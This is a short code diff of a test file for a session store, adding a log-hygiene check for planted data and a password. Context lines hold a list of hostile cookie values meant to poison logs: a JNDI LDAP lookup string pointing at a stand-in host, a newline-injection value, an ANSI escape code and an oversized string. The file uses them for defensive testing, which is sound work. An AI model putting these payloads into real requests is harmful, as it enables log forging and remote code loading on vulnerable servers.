@@ -14,6 +14,7 @@ import {
   sessions,
   type SessionStore,
 } from '../../src/sessions/index.js'
+import { hygiene } from '../support/log-hygiene.js'
 import { startRedis, type RedisServer } from '../support/redis-server.js'
 import { listen, valueOf, type Act } from './event-world.js'
 import { newSecret } from './secrets.js'
@@ -31,6 +32,8 @@ const EVENT_KEY = newSecret()
 /** What an attacker puts into a cookie for whoever reads the log. */
 const HOSTILE = ['${jndi:ldap://evil}', '%0aFAKE LINE', '\u001b[31mred', 'x'.repeat(8192)]
 const PLANTED = { card: 'planted-card-4111', user: 'planted-user', label: 'planted-label' }
+hygiene.keep('planted data', PLANTED.card)
+hygiene.keep('a password', PASSWORD)
 
 interface Opened {
   readonly store: SessionStore
